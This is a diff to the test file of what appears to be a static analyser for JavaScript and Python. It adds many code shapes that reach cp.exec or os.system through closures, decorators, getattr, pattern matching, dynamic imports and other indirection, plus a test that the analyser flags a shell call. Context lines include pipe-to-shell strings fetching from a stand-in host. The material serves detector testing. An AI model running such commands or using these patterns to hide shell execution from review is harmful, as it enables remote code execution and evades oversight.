@@ -61,12 +61,59 @@ SHAPES = (
     ("a.js", CHILD, "f({{cp}}); g{0}(({{cp}}) => cp.exec('x'));\n", ""),
     ("a.js", "const {R} = require('./b');\n", "const r{0} = new R(); r{0}.go();\n", ""),
     ("a.js", "const {R} = require('./b');\n", "class X{0} extends R {{}}\nnew X{0}().go();\n", ""),
+    ("a.js", f"{CHILD}const f = a => b => a.exec(b);\n", "const r{0} = f(cp); r{0}('x');\n", ""),
+    (
+        "a.js",
+        f"{CHILD}function f(a) {{\n",
+        "function g{0}(b) {{ a(b) }} return g{0};\n",
+        "}\n" + "f(cp.exec)('x');\n" * 200,
+    ),
+    ("a.js", f"{CHILD}const o = {{exec: 1}};\n", "for (const k in o) cp[k]('x{}');\n", ""),
+    (
+        "a.js",
+        CHILD,
+        "class A{0} {{ g(c) {{ cp.exec(c) }} }} class B{0} extends A{0} {{ g(c) {{ super.g(c) }} }}\n",
+        "",
+    ),
+    ("a.js", "const b = require('./b');\n", "[b.f, b.g].forEach(f => f({}));\n", ""),
+    ("a.js", "const b = require('./b');\n", "b['f' + '{}'](); b.f.bind(b)();\n", ""),
+    ("a.js", "const b = require('./b');\n[", "b.f{}, ", "].forEach(f => f());\n"),
+    ("a.js", "", "const {{f{0}: {{g{0}}}}} = require('./b'); g{0}();\n", ""),
+    (
+        "a.js",
+        "const b = require('./b');\n",
+        "Object.defineProperty(exports, 'f{}', {{get() {{ return b.f\n",
+        "",
+    ),
     ("a.js", "", "x.exec('curl http://a.example/{} | sh');\n", ""),
     ("a.py", "import os\n", "def f{0}(t): t['o'].system('x')\nf{0}({{'o': os}})\n", ""),
     ("a.py", "import os, types\n", "n{0} = types.SimpleNamespace(o=os); n{0}.o.system('x')\n", ""),
     ("a.py", f"import os\no = [{'[1, 2, 3, 4, 5, 6], ' * 900}os]\n", "f{}(o)\n", ""),
     ("pkg/a.py", "from .b import R\n", "r{0} = R(); r{0}.go()\n", ""),
     ("pkg/a.py", "from .b import R\n", "class X{0}(R): pass\nX{0}().go()\n", ""),
+    ("a.py", "import os\n", "def f{0}(a): return lambda b: a(b)\nf{0}(os.system)('x')\n", ""),
+    ("a.py", "import os\ndef f(a): return lambda b: a(b)\n", "r = f(os.system); r('x{}')\n", ""),
+    ("a.py", "import os\ndef f(a):\n", " def g{0}(b): a(b)\n return g{0}\n", "f(os.system)('x')\n" * 200),
+    (
+        "a.py",
+        "import os\ndef d(f):\n def w(*a): os.system(*a)\n return w\n",
+        "@d\ndef r{0}(c): 0\nr{0}('x')\n",
+        "",
+    ),
+    (
+        "a.py",
+        "import os\n",
+        "class C{0}:\n def __getattr__(self, n): return getattr(os, n)\nC{0}().system('x')\n",
+        "",
+    ),
+    ("a.py", "import os\n", "match os:\n case o{0}: o{0}.system('x')\n", ""),
+    ("a.py", "import os\ndef g():\n c = yield\n os.system(c)\n", "x.send('y{}')\n", ""),
+    ("a.py", "import os\n", "[o for o in [os]][0].system('x{}')\n", ""),
+    ("pkg/a.py", "from . import b\n", "t{0} = [b.f, b.g]; t{0}[0]()\n", ""),
+    ("pkg/a.py", "from . import b\nt = [\n", "b.f{}, \n", "]\n" + "t[0]()\n" * 4_000),
+    ("pkg/a.py", "from .b import *\n", "f{}()\n", ""),
+    ("pkg/a.py", "import importlib as i\n", "b{0} = i.import_module('.b'); b{0}.go()\n", ""),
+    ("pkg/a.py", "from . import b\n", "getattr(b, 'f{}')(); x(b.f)\n", ""),
     ("a.py", "", "x.system('curl http://a.example/{} | sh')\n", ""),
     ("a.py", "import os\n", "def f{}(a):\n    os.system(a)\n", ""),
     ("a.py", "import os\n", "def f(a): #{}\n    os.system(f(a))\n", ""),
@@ -197,3 +244,8 @@ def test_a_letter_that_means_something_else_is_no_call_of_an_import() -> None:
     again = text.replace("f(e)", "f(a)")
     calls = {pair for one in told("a.js", again) if isinstance(one, Function) for pair in one.calls}
     assert ("./x.js", "e") in calls
+
+
+def test_a_name_that_is_only_said_to_be_global_is_bound_to_nothing() -> None:
+    text = "import os\ndef f(a):\n    global never\n    a.system('id')\nf(os)\n"
+    assert any(getattr(one, "name", "") == "shell" for one in told("a.py", text))
